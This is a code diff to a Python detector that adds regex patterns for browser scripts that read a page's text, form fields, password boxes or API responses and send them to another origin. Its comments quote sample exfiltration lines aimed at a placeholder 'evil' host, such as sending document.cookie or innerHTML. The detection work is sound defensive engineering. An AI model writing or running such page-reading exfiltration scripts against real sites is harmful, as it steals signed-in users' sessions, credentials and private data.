@@ -453,6 +453,12 @@ _BROWSER_TOOL = re.compile(r"puppeteer|playwright|browser|chrome|selenium|webdri
 # and storageState(), the DevTools protocol's getAllCookies)
 _PAGE_SECRET = re.compile(r"document\s*\.\s*cookie|document\s*\[\s*['\"]cookie|localStorage|sessionStorage|indexedDB"
                           r"|credentials\s*\.\s*get|cookieStore|\.\s*cookies\s*\(|storageState\s*\(|get(?:All)?Cookies\b")
+# (probe round 36, exfil36) what else a page holds of the signed-in user: its own text and
+# markup, a form's fields (a password box), a response of the site's own API read in the
+# script; sent to another origin it is the session's data leaving, as a cookie is
+_PAGE_CONTENT = re.compile(r"outerHTML|innerHTML|innerText|textContent|new\s+FormData|document\s*\.\s*forms"
+                           r"|\.elements\b|type\s*=\s*\\?['\"]?password|\.value\b|getSelection")
+_PAGE_RESPONSE_READ = re.compile(r"\.(?:text|json|blob|arrayBuffer|formData)\s*\(\s*\)|responseText")
 _PAGE_SEND = re.compile(r"fetch\s*\(|XMLHttpRequest|sendBeacon|WebSocket|EventSource|\.src\s*=|\.href\s*="
                         r"|location\s*=|location\s*\.\s*(?:assign|replace)|window\s*\.\s*open|\.submit\s*\(|\.action\s*="
                         r"|import\s*\(|\$\.(?:ajax|get|post)|axios", re.I)
@@ -5303,6 +5309,17 @@ class _Evaluation:
                 # a page script that reads the session's cookies or storage and makes a
                 # request (fetch(evil + document.cookie), an image's src, a beacon)
                 return _PAGE_SECRET.search(v).group(0)
+            if browser and "(" in v and _PAGE_URL_MAKERS.search(v) and _PAGE_SEND.search(v):
+                # (probe round 36, exfil36) ...or the page's text, a form's fields or a response
+                # of its own API, with a request to an address the script writes out (fetch(evil,
+                # {body: document.body.innerHTML}), a form's action set to another site and
+                # submitted, fetch('/api/me') then fetch(evil + t)); one request that reads its
+                # own answer (fetch('https://api...').then(r => r.json())) sends nothing it read
+                hit = _PAGE_CONTENT.search(v)
+                if hit is None and len(_PAGE_SEND.findall(v)) >= 2:
+                    hit = _PAGE_RESPONSE_READ.search(v)
+                if hit is not None:
+                    return hit.group(0)
         return None
 
     @property
